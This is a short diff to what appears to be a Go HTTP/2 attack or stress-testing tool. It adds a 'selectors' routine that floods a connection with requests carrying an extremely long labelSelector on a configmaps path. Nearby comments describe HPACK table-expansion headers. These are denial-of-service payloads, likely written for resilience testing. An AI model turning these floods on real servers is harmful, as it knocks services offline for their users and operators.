@@ -47,6 +47,19 @@ func longPaths(path string) func(ctx context.Context, a *attacker) {
 	}
 }
 
+// selectors asks for what has many labels, in so many bytes. They take much to parse.
+func selectors(length int) func(ctx context.Context, a *attacker) {
+	return func(ctx context.Context, a *attacker) {
+		block := headerBlock(
+			field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "proxy"},
+			field{":path", configMaps + "?limit=1&labelSelector=" + strings.Repeat("a,", length/2) + "a"},
+		)
+		a.onFrames(ctx, 1, func(f *frames, _ int) error {
+			return f.flood(ctx, func() error { return f.block(block) })
+		})
+	}
+}
+
 // tables sends headers of a few hundred bytes, which stand for almost 1 MiB: each byte is a field in the table of the
 // connection, which one field fills. Its size is changed again and again meanwhile.
 func tables(ctx context.Context, a *attacker) {
